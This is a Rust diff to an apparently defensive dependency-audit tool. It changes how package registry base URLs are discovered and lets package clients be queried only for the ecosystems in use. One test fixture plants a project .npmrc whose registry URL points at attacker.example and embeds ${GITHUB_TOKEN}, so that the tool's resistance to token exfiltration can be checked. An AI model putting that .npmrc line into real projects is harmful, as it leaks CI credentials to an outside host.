@@ -29,23 +29,23 @@ pub fn registry_bases(
     root: &Path,
     env: Env,
 ) -> BTreeMap<Ecosystem, String> {
-    discover(config, root, env, false).bases
+    discover(config, root, env, &[]).bases
 }
 
 /// Base URLs per ecosystem: `config` (`[registries]`, by ecosystem id) first; else the
 /// auditor's settings read through `env`: `npm_config_registry`/`NPM_CONFIG_REGISTRY`, then
 /// `registry=` of `$HOME/.npmrc`; `PIP_INDEX_URL`; the first http(s) entry of `GOPROXY`;
 /// cargo's `replace-with` of crates-io in `$CARGO_HOME/config.toml` (a `sparse+` index only);
-/// else, with `ask_clients` (and `QUARTERDECK_ASK_CLIENTS` not `0`), the ecosystem's client.
-/// `root`'s own `.npmrc` and `.cargo/config(.toml)` are only compared: naming another registry
-/// is a note.
+/// else, for the ecosystems in `ask` (those in use; none when `QUARTERDECK_ASK_CLIENTS` is `0`),
+/// the ecosystem's client. `root`'s own `.npmrc` and `.cargo/config(.toml)` are only compared:
+/// naming another registry is a note.
 pub fn discover(
     config: &BTreeMap<String, String>,
     root: &Path,
     env: Env,
-    ask_clients: bool,
+    ask: &[Ecosystem],
 ) -> Discovered {
-    let ask_clients = ask_clients && env("QUARTERDECK_ASK_CLIENTS").is_none_or(|v| v != "0");
+    let ask_clients = env("QUARTERDECK_ASK_CLIENTS").is_none_or(|v| v != "0");
     let mut out = Discovered::default();
     for eco in Ecosystem::ALL {
         let configured = config
@@ -64,7 +64,7 @@ pub fn discover(
                 _ => None,
             })
             .or_else(|| {
-                if !ask_clients {
+                if !ask_clients || !ask.contains(&eco) {
                     return None;
                 }
                 super::client::ask(eco, env).map(|b| (b, "client"))
@@ -284,7 +284,7 @@ mod tests {
             ("NPM_TOKEN_HOST", "registry.example"),
             ("GITHUB_TOKEN", "ghs_runner_secret"),
         ]);
-        let found = discover(&BTreeMap::new(), project.path(), &env, false);
+        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
         assert_eq!(
             found.bases.get(&Ecosystem::Npm).map(String::as_str),
             Some("https://registry.example/home/"),
@@ -300,7 +300,7 @@ mod tests {
             "# billing\nregistry=https://u:pw@attacker.example/${GITHUB_TOKEN}/\n",
         )
         .unwrap();
-        let found = discover(&BTreeMap::new(), project.path(), &env, false);
+        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
         assert_eq!(
             found.bases.get(&Ecosystem::Npm).map(String::as_str),
             Some("https://registry.example/home/"),
@@ -317,7 +317,7 @@ mod tests {
             ("HOME", &home_s),
             ("NPM_CONFIG_REGISTRY", "http://127.0.0.1:4873/"),
         ]);
-        let found = discover(&BTreeMap::new(), project.path(), &with_env, false);
+        let found = discover(&BTreeMap::new(), project.path(), &with_env, &[]);
         assert_eq!(
             found.bases.get(&Ecosystem::Npm).map(String::as_str),
             Some("http://127.0.0.1:4873/")
@@ -333,7 +333,7 @@ mod tests {
         )
         .unwrap();
         assert!(
-            discover(&BTreeMap::new(), project.path(), &with_env, false)
+            discover(&BTreeMap::new(), project.path(), &with_env, &[])
                 .notes
                 .is_empty()
         );
@@ -399,7 +399,7 @@ mod tests {
         std::fs::write(home.path().join("config.toml"), "[source.crates-io]\nreplace-with = \"h\"\n[source.h]\nregistry = \"sparse+https://registry.example/home/\"\n").unwrap();
         let cargo_home = home.path().to_string_lossy().into_owned();
         let env = env_of(&[("CARGO_HOME", &cargo_home)]);
-        let found = discover(&BTreeMap::new(), dir.path(), &env, false);
+        let found = discover(&BTreeMap::new(), dir.path(), &env, &[]);
         assert_eq!(
             found.bases.get(&Ecosystem::Cargo).map(String::as_str),
             Some("sparse+https://registry.example/home/")
